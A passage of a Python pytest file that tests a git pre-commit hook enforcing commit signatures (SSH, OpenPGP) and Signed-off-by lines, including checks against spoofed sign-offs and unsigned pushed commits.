    assert run(capsys) == (0, '')
    # A literal key signs through the ssh-agent only (`ssh-keygen -Y sign -U`): with no
    # agent, git cannot sign, and the check says so before the commit.
    git('config', 'user.signingkey', f'key::{keys.pub("alice")}', cwd=repo)
    monkeypatch.delenv('SSH_AUTH_SOCK', raising=False)
    code, out = run(capsys)
    assert code == 1
    assert 'which git can only sign with through an ssh-agent, and none is running' in out


def test_setup_with_a_key_not_allowed(repo, keys, capsys, monkeypatch):
    write(repo / '.allowed_signers', keys.signer_line('alice@example.com', 'alice'))
    policy(repo, '  allowed_signers: .allowed_signers\n')
    use_ssh(repo, keys, 'bob')
    git('config', 'commit.gpgsign', 'true', cwd=repo)
    code, out = run(capsys)
    assert code == 1
    bob = ' '.join(keys.pub('bob').split()[:2])
    assert out.splitlines()[1:] == [
        '    fix: get your key trusted: a maintainer adds this line to .allowed_signers in a '
        'change of their own (yours cannot vouch for your own key):',
        f'      alice@example.com namespaces="git" {bob}',
    ]
    assert out.startswith(f'{SETUP}your key SHA256:')
    # The committer git will record (GIT_COMMITTER_EMAIL wins over user.email).
    use_ssh(repo, keys, 'alice')
    monkeypatch.setenv('GIT_COMMITTER_EMAIL', 'carol@example.com')
    code, out = run(capsys)
    assert code == 1
    assert (
        'is allowed for alice@example.com, but git will record the committer as '
        'carol@example.com' in out
    )


@pytest.mark.slow
def test_setup_missing_key_file_and_x509(repo, keys, capsys):
    write(repo / '.allowed_signers', keys.signer_line('alice@example.com', 'alice'))
    policy(repo, '  allowed_signers: .allowed_signers\n')
    git('config', 'commit.gpgsign', 'true', cwd=repo)
    git('config', 'gpg.format', 'ssh', cwd=repo)
    git('config', 'user.signingkey', '/nonexistent/key.pub', cwd=repo)
    code, out = run(capsys)
    assert (code, out.splitlines()[0]) == (
        1,
        f'{SETUP}user.signingkey is /nonexistent/key.pub, which does not exist [signing-key]',
    )
    git('config', 'gpg.format', 'x509', cwd=repo)
    code, out = run(capsys)
    assert code == 1
    assert out.splitlines()[0].startswith(
        f'{SETUP}gpg.format is x509 (gpgsm, gitsign): X.509 signatures are not supported '
        'by this policy; '
    )
    assert out.splitlines()[0].endswith(' [unsupported-signature]')
    assert '      git config gpg.format ssh' in out.splitlines()


@pytest.mark.slow
def test_setup_openpgp(repo, keys, capsys, monkeypatch):
    write(repo / '.gpg-keys' / 'alice.asc', keys.alice_asc)
    policy(repo, '  openpgp_keys: .gpg-keys\n')
    use_pgp(repo, keys, keys.alice_fpr, monkeypatch)
    git('config', 'commit.gpgsign', 'true', cwd=repo)
    assert run(capsys) == (0, '')
    git('config', 'user.signingkey', keys.eve_fpr, cwd=repo)
    code, out = run(capsys)
    assert code == 1
    assert out.splitlines()[0] == (
        f'{SETUP}your signing key {keys.eve_fpr} has no user id for alice@example.com, '
        'the committer git will record [signing-key]'
    )
    monkeypatch.setenv('GIT_COMMITTER_EMAIL', 'eve@example.com')
    code, out = run(capsys)
    assert code == 1
    assert out.splitlines()[0] == (
        f'{SETUP}your signing key {keys.eve_fpr} is not trusted by the policy '
        '(.gpg-keys in the working tree) [signing-key]'
    )


@pytest.mark.slow
def test_setup_openpgp_without_signingkey_uses_the_committer_email(repo, keys, capsys, monkeypatch):
    # git signs with the key gpg finds for the committer's email: that works.
    write(repo / '.gpg-keys' / 'alice.asc', keys.alice_asc)
    policy(repo, '  openpgp_keys: .gpg-keys\n')
    use_pgp(repo, keys, keys.alice_fpr, monkeypatch)
    git('config', '--unset', 'user.signingkey', cwd=repo)
    git('config', 'commit.gpgsign', 'true', cwd=repo)
    assert run(capsys) == (0, '')


def test_setup_never_creates_a_keyring(repo, keys, tmp_path, capsys, monkeypatch):
    home = tmp_path / 'empty-gnupg'
    monkeypatch.setenv('GNUPGHOME', str(home))
    write(repo / '.gpg-keys' / 'alice.asc', keys.alice_asc)
    policy(repo, '  openpgp_keys: .gpg-keys\n')
    git('config', 'gpg.format', 'openpgp', cwd=repo)
    git('config', 'user.signingkey', 'ABCDEF0123456789', cwd=repo)
    git('config', 'commit.gpgsign', 'true', cwd=repo)
    code, out = run(capsys)
    assert code == 1
    assert out.startswith(f'{SETUP}there is no GnuPG keyring ({home})')
    assert not home.exists()


def test_setup_with_signoff_only_policy_checks_nothing(repo, capsys):
    policy(repo, '  require: signoff\n')
    assert run(capsys) == (0, '')


# --- the commit-msg stage ---------------------------------------------------------------


def test_commit_msg_requires_matching_signoff(repo, capsys):
    policy(repo, '  require: both\n')
    msg = write(repo / '.git' / 'COMMIT_EDITMSG', 'subject\n\n# a comment\n')
    code, out = run(capsys, str(msg))
    assert code == 1
    assert out == (
        'the commit message has no Signed-off-by: Alice Example '
        '<alice@example.com> [missing-signoff]\n'
        '    fix: commit with `git commit -s` (the message is kept in '
        '.git/COMMIT_EDITMSG)\n'
    )
    write(msg, 'subject\n\nSigned-off-by: Alice Example <alice@example.com>\n# comment\n')
    assert run(capsys, str(msg)) == (0, '')


@pytest.mark.parametrize('setting', ['auto', ';'])
def test_commit_msg_signoff_above_gits_comments_and_verbose_diff(repo, capsys, setting):
    # What `git commit -s -v` leaves in the editor: the sign-off, git's comments and
    # the scissors in the comment character (with `auto`, git's usual '#').
    policy(repo, '  require: signoff\n')
    git('config', 'core.commentChar', setting, cwd=repo)
    c = '#' if setting == 'auto' else setting
    msg = write(
        repo / '.git' / 'COMMIT_EDITMSG',
        'subject\n\nSigned-off-by: Alice Example <alice@example.com>\n\n'
        f'{c} Please enter the commit message for your changes.\n{c}\n'
        f'{c} ------------------------ >8 ------------------------\n'
        'diff --git a/x b/x\n+Signed-off-by: Mallory <m@example.com>\n',
    )
    assert run(capsys, str(msg)) == (0, '')


def test_commit_msg_signoff_only_in_a_comment_does_not_count(repo, capsys):
    policy(repo, '  require: signoff\n')
    msg = write(
        repo / '.git' / 'COMMIT_EDITMSG',
        'subject\n# Signed-off-by: Alice Example <alice@example.com>\n',
    )
    assert run(capsys, str(msg))[0] == 1


def test_commit_msg_of_a_merge_per_policy(repo, capsys):
    policy(repo, '  require: signoff\n  allow_unsigned_merges: true\n')
    msg = write(repo / '.git' / 'MERGE_MSG', "Merge branch 'x'\n")
    write(repo / '.git' / 'MERGE_HEAD', '0' * 40 + '\n')
    assert run(capsys, str(msg)) == (0, '')
    policy(repo, '  require: signoff\n')
    assert run(capsys, str(msg))[0] == 1


def test_commit_msg_when_signature_only_policy(repo, capsys):
    msg = write(repo / '.git' / 'COMMIT_EDITMSG', 'subject\n')
    assert run(capsys, str(msg)) == (0, '')


# --- start-up --------------------------------------------------------------------------


def test_never_imports_detect_secrets():
    code = 'import sys, hooks.signatures; sys.exit(1 if "detect_secrets" in sys.modules else 0)'
    assert subprocess.run((sys.executable, '-c', code), check=False).returncode == 0


# --- end to end through the real pre-commit framework ------------------------------------


@pytest.mark.slow  # through the real pre-commit framework
def test_e2e_commit_and_push(repo, remote, keys, pre_commit):
    write(repo / '.allowed_signers', keys.signer_line('alice@example.com', 'alice'))
    policy(repo, '  allowed_signers: .allowed_signers\n  require: both\n')
    pre_commit('  - id: check-signatures\n', hook_types=('pre-commit', 'commit-msg', 'pre-push'))
    git('add', '-A', cwd=repo)
    git_commit(repo, 'policy', '-s')
    git('push', '-q', '--no-verify', 'origin', 'main', cwd=repo)

    proc = git('commit', '--allow-empty', '-m', 'no signing', cwd=repo, check=False)
    assert proc.returncode == 1
    # git sends hook output to stderr.
    assert '      git config commit.gpgsign true\n' in proc.stderr
    assert '      git config gpg.format ssh\n' in proc.stderr

    use_ssh(repo, keys)
    git('config', 'commit.gpgsign', 'true', cwd=repo)
    proc = git('commit', '--allow-empty', '-m', 'no sign-off', cwd=repo, check=False)
    assert proc.returncode == 1
    assert '    fix: commit with `git commit -s`' in proc.stderr
    git('commit', '-q', '--allow-empty', '-s', '-m', 'signed and signed off', cwd=repo)
    git('push', '-q', 'origin', 'main', cwd=repo)

    sha = git_commit(repo, 'sneaked in', '-s')  # --no-verify, --no-gpg-sign
    proc = git('push', 'origin', 'main', cwd=repo, check=False)
    assert proc.returncode == 1
    assert (
        f'{commit_line(sha, "sneaked in")}: the commit is not signed [unsigned]'
        in proc.stdout + proc.stderr
    )
    assert git('ls-remote', 'origin', 'main', cwd=repo).stdout.split()[0] != sha


def test_default_policy_trusts_nobody_and_says_so(repo, keys, capsys):
    base = git_commit(repo, 'base')
    use_ssh(repo, keys)
    sha = git_commit(repo, 'signed', '-S', sign=True)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    lines = out.splitlines()
    assert lines[0].startswith(f'{commit_line(sha, "signed")}: signed with SSH key SHA256:')
    assert lines[0].endswith('(signatures.allowed_signers is not set) [unknown-key]')
    assert lines[1] == (
        '    fix: the policy trusts no SSH key: an admin sets '
        'signatures.allowed_signers in .commit-warden.yaml and commits the '
        'trusted keys'
    )
    assert lines[2] == (
        'note: the policy trusts no signer: set signatures.allowed_signers '
        '(SSH) or signatures.openpgp_keys (OpenPGP) in the policy'
    )
